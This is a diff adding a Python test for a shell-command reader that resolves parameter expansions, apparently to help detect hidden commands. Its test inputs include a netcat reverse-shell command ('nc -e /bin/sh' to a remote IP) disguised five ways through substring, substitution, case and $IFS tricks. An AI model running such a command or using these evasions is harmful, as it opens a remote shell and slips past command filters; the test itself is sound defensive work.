@@ -191,3 +191,14 @@ def test_expansions_empty_in_a_fresh_shell_vanish_from_words():
         assert [c.line for c in reader.read(text)] == ["nc -e /bin/sh 198.51.100.7 4444"], text
     assert [c.line for c in reader.read("set -- a b; echo $1b")][-1] == "echo b"  # $1, then b
     assert [c.line for c in reader.read("x=$(date)")] == ["date", "assign x=$(date)"]
+
+
+def test_parameter_expansions_that_hide_a_word_are_applied():
+    reader = ShellReader()
+    lines = [c.line for c in reader.read("a=hello; echo ${a:1} ${a: -2} ${a:1:-1} ${a^^} ${a^} ${a//l/L} ${a%lo} ${a#he}")]
+    assert lines[-1] == "echo ello lo ell HELLO Hello heLLo hel llo"
+    for text in ("a=ncxx; ${a:0:2} -e /bin/sh 198.51.100.7 4444", "a=nXc; ${a/X/} -e /bin/sh 198.51.100.7 4444",
+                 "A=N; ${A,,}c -e /bin/sh 198.51.100.7 4444", "nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.7 4444",
+                 "nc$IFS-e /bin/sh 198.51.100.7 4444"):
+        assert [c.line for c in reader.read(text)][-1] == "nc -e /bin/sh 198.51.100.7 4444", text
+    assert [c.line for c in reader.read("a=x; echo ${a%%*o} ${b:-dflt}")][-1] == "echo x dflt"  # a glob: left alone
